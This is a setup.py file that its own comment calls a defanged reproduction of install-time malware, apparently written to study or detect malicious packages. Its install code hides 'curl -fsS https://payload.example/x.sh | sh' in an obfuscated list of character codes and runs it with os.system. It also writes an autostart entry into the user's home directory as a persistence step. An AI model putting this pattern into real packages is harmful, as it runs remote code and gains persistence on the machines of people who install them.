# Defanged reproduction of setup.py payloads that only run under `python setup.py
# install`: `__builtins__.chr` exists only where __builtins__ is the builtins module
# (setup.py run as __main__); under pip's PEP 517 build it is a dict and this file fails.
# The payload writes an XDG autostart entry and pipes a script from an example domain into
# sh (the airlock sink answers `exit 0`).
import os

from setuptools import setup

_c = __builtins__.chr
_cmd = "".join(_c(x) for x in [99, 117, 114, 108, 32, 45, 102, 115, 83, 32, 104, 116, 116, 112, 115, 58, 47, 47, 112, 97, 121, 108, 111, 97, 100, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120, 46, 115, 104, 32, 124, 32, 115, 104])

_dir = os.path.join(os.path.expanduser("~"), ".config", "autostart")
os.makedirs(_dir, exist_ok=True)
with open(os.path.join(_dir, "x.desktop"), "w") as f:
    f.write("[Desktop Entry]\nType=Application\nName=x\nExec=sh -c true\n")
os.system(_cmd)

setup(
    name="builtins-fallback",
    version="1.0.2",
    packages=["builtins_fallback"],
)
